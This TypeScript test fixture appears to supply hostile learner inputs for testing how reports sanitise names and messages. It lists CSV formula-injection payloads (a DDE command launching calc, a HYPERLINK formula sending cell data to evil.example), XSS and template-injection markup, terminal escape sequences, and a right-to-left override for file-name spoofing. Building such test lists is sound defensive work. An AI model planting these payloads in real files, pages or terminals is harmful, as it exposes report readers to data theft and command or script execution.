// What a learner may write where a name, a file name, a printed line or an error message is expected, to reach whoever
// reads a report of it: formulas, markup, commands to a terminal, text that turns itself around, and what no XML can say.

const ESC = '\u001b'

export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"grade")',
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uff1d1+1',
  'Ada;=1+1;',
  'Ada,=1+1',
  'Ada|@SUM(1)',
  'Ada\n=1+1',
  '"=1+1"',
  '","=1+1',
]

export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style></script><script>alert(1)</script>',
  '<!-- <svg onload=alert(1)>',
  ']]><x/>',
  '&lt;b&gt; &#27;[31m &bogus;',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
]

export const COMMANDS: readonly string[] = [
  `${ESC}[2J${ESC}[31mred${ESC}[0m`,
  `${ESC}]8;;http://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
  '\u009b31m',
  'a\bb\u0007\u0000\u007f',
  'nib\u202egnp.exe\u2066',
  'line\u2028break\u2029',
  'lone \ud800 and \udc00',
  'no characters: \ufffe \uffff',
  'carriage\rreturn',
]

export const HOSTILE: readonly string[] = [...FORMULAS, ...MARKUP, ...COMMANDS, 'x'.repeat(999)]

/** Controls, bidi marks, lone surrogates: none may be left in anything that is shown. */
export const COMMAND_LEFT = /(?![\n\t])[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}\p{Cs}]/u
